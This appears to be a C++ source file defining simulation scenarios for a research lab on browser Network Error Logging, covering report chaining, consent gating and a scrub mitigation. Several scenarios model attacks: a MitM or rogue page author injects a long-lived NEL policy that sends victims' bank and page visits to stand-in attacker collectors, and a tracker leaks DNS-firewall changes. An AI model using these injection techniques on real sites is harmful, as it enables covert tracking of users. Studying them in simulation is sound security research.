#include "nellab/net_sim.h"

namespace nellab {
namespace {

constexpr std::int64_t kCentury = 100 * 365 * 86400LL;  // seconds
constexpr std::int64_t kThirtyDays = 30 * 86400LL;

NelPolicyHeader policy(std::string group, std::int64_t max_age, double success_fraction = 0.0,
                       bool include_subdomains = false) {
  NelPolicyHeader p;
  p.report_to = std::move(group);
  p.max_age = max_age;
  p.success_fraction = success_fraction;
  p.include_subdomains = include_subdomains;
  return p;
}

EndpointGroup group(std::string name, std::string url, std::int64_t max_age = kThirtyDays) {
  EndpointGroup g;
  g.name = std::move(name);
  g.max_age = max_age;
  g.endpoints.push_back({std::move(url), 1, 1});
  return g;
}

HeaderMap nel_headers(const NelPolicyHeader& p, const EndpointGroup& g) {
  return {{"NEL", serialize_nel_header(p)}, {"Report-To", serialize_report_to_header(std::span(&g, 1))}};
}

ServerSpec server(std::string host, HeaderMap headers = {}) {
  ServerSpec s;
  s.host = std::move(host);
  s.headers = std::move(headers);
  return s;
}

CollectorConfig collector(IpMode mode = IpMode::kVolatile) {
  CollectorConfig c;
  c.ip_mode = mode;
  return c;
}

// A collector run by an adversary keeps everything it receives.
CollectorConfig hostile_collector() {
  CollectorConfig c = collector(IpMode::kFull);
  c.strip_url_query = false;
  c.drop_captured_headers = false;
  c.store_user_agent = true;
  return c;
}

CollectorConfig collector_with_policy(const NelPolicyHeader& p, const EndpointGroup& g) {
  CollectorConfig c = collector();
  c.emit_nel = p;
  c.emit_report_to = {g};
  return c;
}

AgentSpec agent(std::string id) {
  AgentSpec a;
  a.id = std::move(id);
  return a;
}

Visit visit(std::int64_t at, std::string agent_id, std::string url, std::string referrer = {}) {
  return {at_ms(at), std::move(agent_id), std::move(url), std::move(referrer), {}};
}

Interval from(std::int64_t start) { return {at_ms(start), kFarFuture}; }

ScenarioConfig fig2_chain() {
  ScenarioConfig c;
  c.name = "fig2_chain";
  c.description =
      "Servers A and B share collector C, which serves its own policy pointing at C'. The browser reports from A "
      "to C (learning C's policy), then installs B's policy. B and C go down; the failed upload to C becomes a "
      "meta-report delivered to C'. The run ends before B or C recover, so B's own report stays lost.";
  c.agents = {agent("browser")};
  c.dns = {{"a.example", "203.0.113.1"},
           {"b.example", "203.0.113.2"},
           {"c.example", "203.0.113.3"},
           {"c-prime.example", "203.0.113.4"}};
  const auto to_c = group("default", "https://c.example/upload");
  c.servers = {server("a.example", nel_headers(policy("default", kThirtyDays, 1.0), to_c)),
               server("b.example", nel_headers(policy("default", kThirtyDays), to_c)), server("c.example"),
               server("c-prime.example")};
  c.servers[1].down = {from(2 * kMinuteMs)};
  c.servers[2].down = {from(2 * kMinuteMs)};
  c.collectors = {
      {"c.example", collector_with_policy(policy("meta", kThirtyDays), group("meta", "https://c-prime.example/upload"))},
      {"c-prime.example", collector()}};
  c.visits = {visit(0, "browser", "https://a.example/"), visit(kMinuteMs, "browser", "https://b.example/"),
              visit(3 * kMinuteMs, "browser", "https://b.example/")};
  return c;
}

ScenarioConfig fig3_split_chain() {
  ScenarioConfig c;
  c.name = "fig3_split_chain";
  c.description =
      "A and B use separate collector names a.c.example and b.c.example, both serving policies that point at C'. "
      "The browser only ever uploads to a.c.example, so it never learns b.c.example's policy. When B and "
      "b.c.example fail together, nothing about b.c.example can be reported.";
  c.agents = {agent("browser")};
  c.dns = {{"a.example", "203.0.113.1"},
           {"b.example", "203.0.113.2"},
           {"a.c.example", "203.0.113.31"},
           {"b.c.example", "203.0.113.32"},
           {"c-prime.example", "203.0.113.4"}};
  const auto meta = group("meta", "https://c-prime.example/upload");
  c.servers = {
      server("a.example", nel_headers(policy("default", kThirtyDays, 1.0), group("default", "https://a.c.example/upload"))),
      server("b.example", nel_headers(policy("default", kThirtyDays), group("default", "https://b.c.example/upload"))),
      server("a.c.example"), server("b.c.example"), server("c-prime.example")};
  c.servers[1].down = {from(2 * kMinuteMs)};
  c.servers[3].down = {from(2 * kMinuteMs)};
  c.collectors = {{"a.c.example", collector_with_policy(policy("meta", kThirtyDays), meta)},
                  {"b.c.example", collector_with_policy(policy("meta", kThirtyDays), meta)},
                  {"c-prime.example", collector()}};
  c.visits = {visit(0, "browser", "https://a.example/"), visit(kMinuteMs, "browser", "https://b.example/"),
              visit(3 * kMinuteMs, "browser", "https://b.example/")};
  return c;
}

// Shared by the persistence and scrub scenarios.
ScenarioConfig bank_under_mitm(std::string name, HeaderMap honest_headers) {
  ScenarioConfig c;
  c.name = std::move(name);
  c.agents = {agent("victim")};
  c.dns = {{"bank.example", "203.0.113.20"},
           {"www.bank.example", "203.0.113.21"},
           {"collector.attacker.example", "198.51.100.66"}};
  c.servers = {server("bank.example", std::move(honest_headers)), server("www.bank.example"),
               server("collector.attacker.example")};
  c.collectors = {{"collector.attacker.example", hostile_collector()}};
  MitmWindow window;
  window.agent = "victim";
  window.host = "bank.example";
  window.window = {at_ms(kHourMs), at_ms(2 * kHourMs)};
  window.headers = nel_headers(policy("atk", kCentury, 1.0, true), group("atk", "https://collector.attacker.example/nel"));
  c.mitm_windows = {window};
  return c;
}

ScenarioConfig mitm_persistence() {
  auto c = bank_under_mitm("mitm_persistence", {});
  c.description =
      "An adversary holds a MitM position on bank.example for one hour and injects a century-long policy with "
      "include_subdomains. The honest server never sends NEL, so the policy survives and keeps reporting the "
      "victim's visits, including query strings and subdomains, long after the window closes.";
  const std::int64_t window_end = 2 * kHourMs;
  c.visits = {visit(0, "victim", "https://bank.example/"),
              visit(90 * kMinuteMs, "victim", "https://bank.example/login"),
              visit(kDayMs, "victim", "https://bank.example/account?id=42"),
              visit(window_end + 45 * kDayMs, "victim", "https://www.bank.example/statements"),
              visit(window_end + 400 * kDayMs, "victim", "https://bank.example/transfer?to=DE89")};
  return c;
}

ScenarioConfig mitigation_scrub() {
  auto c = bank_under_mitm("mitigation_scrub", {{"NEL", serialize_nel_removal({})}});
  c.description =
      "Same attack as mitm_persistence, but the honest bank.example serves a max_age=0 NEL header. The first "
      "honest response after the MitM window removes the injected policy; no later visit reaches the attacker.";
  c.visits = {visit(0, "victim", "https://bank.example/"),
              visit(90 * kMinuteMs, "victim", "https://bank.example/login"),
              visit(105 * kMinuteMs, "victim", "https://www.bank.example/"),
              visit(3 * kHourMs, "victim", "https://bank.example/account?id=42"),
              visit(4 * kHourMs, "victim", "https://www.bank.example/statements"),
              visit(45 * kDayMs, "victim", "https://bank.example/transfer?to=DE89")};
  return c;
}

ScenarioConfig rogue_creator() {
  ScenarioConfig c;
  c.name = "rogue_creator";
  c.description =
      "pages.example hosts user content under per-user paths. Mallory sets response headers on /mallory/ and "
      "installs a host-wide policy with include_subdomains. Afterwards visits to Alice's pages and to subdomains "
      "are reported to Mallory's collector. The strict agent limits subdomain matches to dns-phase reports.";
  c.agents = {agent("permissive"), agent("strict")};
  c.agents[1].subdomain_mode = SubdomainMode::kStrict;
  c.dns = {{"pages.example", "203.0.113.30"},
           {"docs.pages.example", "203.0.113.31"},
           {"ghost.pages.example", std::nullopt},
           {"collector.mallory.example", "198.51.100.77"}};
  auto shared = server("pages.example");
  PathSpec mallory;
  mallory.prefix = "/mallory/";
  mallory.headers =
      nel_headers(policy("m", 365 * 86400LL, 1.0, true), group("m", "https://collector.mallory.example/r"));
  PathSpec alice;
  alice.prefix = "/alice/";
  shared.paths = {mallory, alice};
  c.servers = {shared, server("docs.pages.example"), server("collector.mallory.example")};
  c.collectors = {{"collector.mallory.example", hostile_collector()}};
  for (const auto* id : {"permissive", "strict"}) {
    const std::int64_t offset = std::string_view(id) == "strict" ? kSecondMs : 0;
    c.visits.push_back(visit(0 + offset, id, "https://pages.example/mallory/"));
    c.visits.push_back(
        visit(10 * kMinuteMs + offset, id, "https://pages.example/alice/diary?entry=7", "https://pages.example/alice/"));
    c.visits.push_back(visit(20 * kMinuteMs + offset, id, "https://docs.pages.example/guide"));
    c.visits.push_back(visit(30 * kMinuteMs + offset, id, "https://ghost.pages.example/"));
  }
  std::stable_sort(c.visits.begin(), c.visits.end(), [](const Visit& a, const Visit& b) { return a.at < b.at; });
  return c;
}

ScenarioConfig dns_firewall() {
  ScenarioConfig c;
  c.name = "dns_firewall";
  c.description =
      "The victim loads a tracker that installed a NEL policy before the victim deployed a DNS firewall. The "
      "firewall remaps tracker.example to 0.0.0.0; the next load produces a dns.address_changed report carrying "
      "the remapped address, delivered to the tracker's still-reachable collector together with the victim's IP.";
  c.agents = {agent("victim")};
  c.agents[0].client_ip = "192.0.2.44";
  c.dns = {{"news.example", "203.0.113.40"},
           {"tracker.example", "203.0.113.50"},
           {"collector.tracker-reports.example", "203.0.113.51"}};
  auto tracker = server("tracker.example", nel_headers(policy("t", 365 * 86400LL),
                                                       group("t", "https://collector.tracker-reports.example/nel")));
  tracker.ips = {"203.0.113.50"};
  c.servers = {server("news.example"), tracker, server("collector.tracker-reports.example")};
  c.collectors = {{"collector.tracker-reports.example", hostile_collector()}};
  c.dns_changes = {{at_ms(kHourMs), "tracker.example", "0.0.0.0"}};
  c.visits = {visit(0, "victim", "https://news.example/article"),
              visit(kSecondMs, "victim", "https://tracker.example/pixel.gif", "https://news.example/article"),
              visit(2 * kHourMs, "victim", "https://news.example/article"),
              visit(2 * kHourMs + kSecondMs, "victim", "https://tracker.example/pixel.gif",
                    "https://news.example/article")};
  return c;
}

ScenarioConfig consent_gate() {
  ScenarioConfig c;
  c.name = "consent_gate";
  c.description =
      "A consent-enforcing browser visits a site that serves NEL, including during an outage. Without recorded "
      "consent every policy header is ignored and nothing is reported. Granting consent for the site and its "
      "collector reproduces the bypass-mode trace exactly.";
  c.agents = {agent("visitor")};
  c.agents[0].consent_mode = ConsentMode::kEnforce;
  c.dns = {{"news.example", "203.0.113.40"},
           {"nel.news-collector.example", "203.0.113.60"},
           {"meta.news-collector.example", "203.0.113.61"}};
  auto news = server("news.example", nel_headers(policy("default", kThirtyDays, 1.0),
                                                 group("default", "https://nel.news-collector.example/upload")));
  news.down = {{at_ms(50 * kMinuteMs), at_ms(70 * kMinuteMs)}};
  c.servers = {news, server("nel.news-collector.example"), server("meta.news-collector.example")};
  c.collectors = {{"nel.news-collector.example",
                   collector_with_policy(policy("meta", kThirtyDays),
                                         group("meta", "https://meta.news-collector.example/upload"))},
                  {"meta.news-collector.example", collector()}};
  c.visits = {visit(0, "visitor", "https://news.example/"),
              visit(10 * kMinuteMs, "visitor", "https://news.example/article?id=7", "https://news.example/"),
              visit(kHourMs, "visitor", "https://news.example/"),
              visit(2 * kHourMs, "visitor", "https://news.example/")};
  return c;
}

}  // namespace

std::vector<std::string> builtin_scenario_names() {
  return {"fig2_chain", "fig3_split_chain", "mitm_persistence", "rogue_creator",
          "dns_firewall", "mitigation_scrub", "consent_gate"};
}

std::map<std::string, ScenarioConfig> builtin_scenarios() {
  std::map<std::string, ScenarioConfig> out;
  for (auto* make : {fig2_chain, fig3_split_chain, mitm_persistence, rogue_creator, dns_firewall,
                     mitigation_scrub, consent_gate}) {
    auto config = make();
    out.emplace(config.name, std::move(config));
  }
  return out;
}

std::optional<ScenarioConfig> builtin_scenario(std::string_view name) {
  auto all = builtin_scenarios();
  auto it = all.find(std::string(name));
  if (it == all.end()) return std::nullopt;
  return std::move(it->second);
}

}  // namespace nellab
